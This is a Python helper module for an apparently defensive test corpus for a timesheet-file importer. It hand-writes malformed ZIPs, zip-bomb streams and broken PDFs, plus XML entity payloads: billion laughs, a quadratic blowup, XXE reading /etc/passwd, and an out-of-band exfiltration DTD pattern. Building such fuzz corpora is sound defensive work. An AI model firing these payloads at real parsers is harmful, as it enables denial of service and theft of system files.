"""Byte-level writers for hostile files: raw ZIPs, raw PDFs and XML entity payloads.

The standard writers (zipfile, openpyxl, fpdf2) refuse to produce lying headers, duplicate
names, overlapping entries or broken cross-reference tables; these helpers write them on
purpose, byte by byte, so the corpus can hold what an attacker would send.
"""

import io
import struct
import zipfile
import zlib
from dataclasses import dataclass
from functools import lru_cache
from pathlib import Path

DATA = Path(__file__).resolve().parents[1] / "data" / "timesheets"
GOLDEN_SUFFIXES = (".xlsx", ".xlsm", ".xls", ".ods", ".csv", ".pdf")
_DOS_TIME, _DOS_DATE = 0, (2026 - 1980) << 9 | 3 << 5 | 1


def golden_paths() -> list[Path]:
    """Return the golden timesheets, sorted (the corpus must not depend on directory order)."""
    return sorted(p for p in DATA.iterdir() if p.suffix in GOLDEN_SUFFIXES)


@lru_cache(maxsize=16)
def golden(name: str) -> bytes:
    """Return one golden file's bytes (cached: truncations reuse them many times)."""
    return (DATA / name).read_bytes()


def deflate(data: bytes, level: int = 9) -> bytes:
    """Return a raw deflate stream, the way ZIP entries hold it."""
    packer = zlib.compressobj(level, zlib.DEFLATED, -15)
    return packer.compress(data) + packer.flush()


@lru_cache(maxsize=8)
def deflated_run(byte: bytes, size: int) -> bytes:
    """Return the raw deflate stream of ``size`` copies of ``byte`` (a zip bomb's kernel)."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    chunk = byte * (1 << 20)
    parts = [packer.compress(chunk) for _ in range(size >> 20)]
    parts.append(packer.compress(byte * (size & ((1 << 20) - 1))))
    parts.append(packer.flush())
    return b"".join(parts)


@lru_cache(maxsize=8)
def crc_of_run(byte: bytes, size: int) -> int:
    """Return the CRC-32 of ``size`` copies of ``byte`` without holding them all at once."""
    crc, chunk = 0, byte * (1 << 20)
    for _ in range(size >> 20):
        crc = zlib.crc32(chunk, crc)
    return zlib.crc32(byte * (size & ((1 << 20) - 1)), crc)


@dataclass
class RawEntry:
    """One ZIP entry as written: the payload is already compressed when ``method`` is 8."""

    name: str | bytes
    payload: bytes
    size: int
    crc: int
    method: int = 8
    flags: int = 0
    extra: bytes = b""
    central_size: int | None = None  # what the central directory claims, when it lies
    central_csize: int | None = None
    offset_of: int | None = None  # point the central record at an earlier entry's header


def entry(name: str | bytes, data: bytes, *, method: int = 8, **kwargs) -> RawEntry:
    """Return an honest entry for ``data`` (deflated unless ``method`` is 0)."""
    payload = deflate(data) if method == 8 else data
    return RawEntry(name, payload, len(data), zlib.crc32(data), method, **kwargs)


def raw_zip(entries: list[RawEntry], *, prefix: bytes = b"", suffix: bytes = b"", comment: bytes = b"",
            declared_count: int | None = None) -> bytes:
    """Write a ZIP exactly as told, lies included."""
    out = io.BytesIO()
    out.write(prefix)
    offsets = []
    for item in entries:
        name = item.name.encode() if isinstance(item.name, str) else item.name
        offsets.append(out.tell())
        if item.offset_of is not None:
            continue
        out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, item.flags, item.method, _DOS_TIME, _DOS_DATE,
                              item.crc, min(len(item.payload), 0xFFFFFFFF), min(item.size, 0xFFFFFFFF),
                              len(name), len(item.extra)))
        out.write(name + item.extra + item.payload)
    central = out.tell()
    for index, item in enumerate(entries):
        name = item.name.encode() if isinstance(item.name, str) else item.name
        offset = offsets[item.offset_of] if item.offset_of is not None else offsets[index]
        csize = item.central_csize if item.central_csize is not None else len(item.payload)
        size = item.central_size if item.central_size is not None else item.size
        out.write(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, item.flags, item.method, _DOS_TIME,
                              _DOS_DATE, item.crc, min(csize, 0xFFFFFFFF), min(size, 0xFFFFFFFF), len(name),
                              len(item.extra), 0, 0, 0, 0, offset - len(prefix) if prefix else offset))
        out.write(name + item.extra)
    count = len(entries) if declared_count is None else declared_count
    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, min(count, 0xFFFF), min(count, 0xFFFF),
                          out.tell() - central, central - (len(prefix) if prefix else 0), len(comment)))
    out.write(comment + suffix)
    return out.getvalue()


@lru_cache(maxsize=4)
def package_parts(name: str) -> tuple[tuple[str, bytes], ...]:
    """Return the (name, bytes) parts of a golden XLSX/ODS, in archive order."""
    with zipfile.ZipFile(io.BytesIO(golden(name))) as archive:
        return tuple((info.filename, archive.read(info)) for info in archive.infolist())


def repack(name: str, replace: dict[str, bytes] | None = None, add: dict[str, bytes] | None = None,
           drop: tuple[str, ...] = ()) -> bytes:
    """Rebuild a golden package with some parts replaced, added or removed (honest ZIP)."""
    replace, add = replace or {}, add or {}
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for part, data in package_parts(name):
            if part in drop:
                continue
            method = zipfile.ZIP_STORED if part == "mimetype" else zipfile.ZIP_DEFLATED
            archive.writestr(zipfile.ZipInfo(part, (2026, 3, 1, 0, 0, 0)), replace.get(part, data), method)
        for part, data in add.items():
            archive.writestr(zipfile.ZipInfo(part, (2026, 3, 1, 0, 0, 0)), data, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def part(name: str, part_name: str) -> bytes:
    """Return one part of a golden package."""
    return dict(package_parts(name))[part_name]


# --- XML entity payloads: each returns a DOCTYPE and the reference to place in the body ---

PASSWD_MARKER = "root:x:0:0"


def billion_laughs() -> tuple[str, str]:
    """Ten levels of ten references: 10^9 « lol » once expanded."""
    levels = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "{("&lol%d;" % (i - 1)) * 10}">' for i in range(1, 10)]
    return "<!DOCTYPE lolz [" + "".join(levels) + "]>", "&lol9;"


def quadratic_blowup() -> tuple[str, str]:
    """One 50 KB entity referenced 20 000 times: a gigabyte without nesting."""
    return f'<!DOCTYPE q [<!ENTITY a "{"a" * 50_000}">]>', "&a;" * 20_000


def xxe_file() -> tuple[str, str]:
    """An external entity that would read /etc/passwd."""
    return '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', "&xxe;"


def xxe_parameter() -> tuple[str, str]:
    """Parameter entities pulling an external DTD (the out-of-band exfiltration trick)."""
    return ('<!DOCTYPE x [<!ENTITY % file SYSTEM "file:///etc/passwd">'
            '<!ENTITY % dtd SYSTEM "http://127.0.0.1:9/evil.dtd"> %dtd; %file;]>', "&send;")


def xxe_external_dtd() -> tuple[str, str]:
    """A DOCTYPE whose external subset lives on another machine."""
    return '<!DOCTYPE x SYSTEM "http://127.0.0.1:9/evil.dtd">', "&evil;"


def padded_doctype() -> tuple[str, str]:
    """An XXE hidden behind 4 KB of comment, past any « first bytes » sniffing."""
    doctype, ref = xxe_file()
    return "<!--" + " " * 4096 + "-->" + doctype, ref


def padded_laughs() -> tuple[str, str]:
    """Billion laughs behind 4 KB of comment."""
    doctype, ref = billion_laughs()
    return "<!--" + " " * 4096 + "-->" + doctype, ref


ENTITY_PAYLOADS = {
    "billion_laughs": billion_laughs,
    "quadratic": quadratic_blowup,
    "xxe_file": xxe_file,
    "xxe_parameter": xxe_parameter,
    "xxe_external_dtd": xxe_external_dtd,
    "padded_doctype": padded_doctype,
    "padded_laughs": padded_laughs,
}


def with_doctype(xml: bytes, doctype: str, reference: str, *, encoding: str = "utf-8") -> bytes:
    """Insert a DOCTYPE after the XML declaration and the reference in the first text node."""
    text = xml.decode("utf-8")
    declaration = ""
    if text.startswith("<?xml"):
        end = text.index("?>") + 2
        declaration, text = text[:end], text[end:]
    body_start = text.index("<")
    marker = text.find("<t>")
    if marker < 0:
        marker = text.find("<text:p>")
    if marker >= 0:
        close = text.index(">", marker) + 1
        text = text[:close] + reference + text[close:]
    result = declaration + doctype + text[body_start:]
    if encoding != "utf-8":
        result = result.replace("encoding='UTF-8'", f"encoding='{encoding}'").replace(
            'encoding="UTF-8"', f'encoding="{encoding}"')
        return result.encode(encoding)
    return result.encode("utf-8")


# --- PDFs written object by object ---


def raw_pdf(objects: list[bytes], *, trailer: bytes = b"/Root 1 0 R", xref: str = "ok",
            version: bytes = b"1.7") -> bytes:
    """Write a PDF whose objects are numbered from 1; ``xref`` is ok, zero, missing or beyond."""
    out = io.BytesIO()
    out.write(b"%PDF-" + version + b"\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    start = out.tell()
    if xref != "missing":
        out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
        for offset in offsets:
            out.write(b"%010d 00000 n \n" % (0 if xref == "zero" else offset))
    out.write(b"trailer\n<< /Size %d " % (len(objects) + 1) + trailer + b" >>\n")
    out.write(b"startxref\n%d\n%%%%EOF\n" % (start + 10_000_000 if xref == "beyond" else start))
    return out.getvalue()


def stream(content: bytes, extra: bytes = b"", *, compress: bool = False) -> bytes:
    """Return a stream object body (optionally FlateDecode)."""
    if compress:
        content = zlib.compress(content, 9)
        extra += b" /Filter /FlateDecode"
    return b"<< /Length %d" % len(content) + extra + b" >>\nstream\n" + content + b"\nendstream"


FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>"
TEXT_PAGE = (b"BT /F1 11 Tf 50 780 Td (Releve mensuel - mars 2026) Tj 0 -30 Td (Nom) Tj 150 0 Td (Prenom) Tj "
             b"150 0 Td (Heures) Tj -300 -20 Td (DUPONT) Tj 150 0 Td (Marie) Tj 150 0 Td (35) Tj ET")


def text_pdf(*, pages: int = 1, page_extra: bytes = b"", catalog_extra: bytes = b"", content: bytes = TEXT_PAGE,
             extra_objects: tuple[bytes, ...] = (), count: int | None = None, media_box: bytes = b"[0 0 595 842]",
             xref: str = "ok", compress: bool = False) -> bytes:
    """Return a PDF of ``pages`` pages sharing one text content stream.

    Objects: 1 catalog, 2 page tree, 3 font, 4 content, 5.. extra objects, then the pages.
    """
    first_page = 5 + len(extra_objects)
    kids = b" ".join(b"%d 0 R" % (first_page + i) for i in range(pages))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
        b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % (pages if count is None else count),
        FONT,
        stream(content, compress=compress),
        *extra_objects,
    ]
    page = (b"<< /Type /Page /Parent 2 0 R /MediaBox " + media_box
            + b" /Resources << /Font << /F1 3 0 R >> >> /Contents 4 0 R " + page_extra + b" >>")
    objects += [page] * pages
    return raw_pdf(objects, xref=xref)
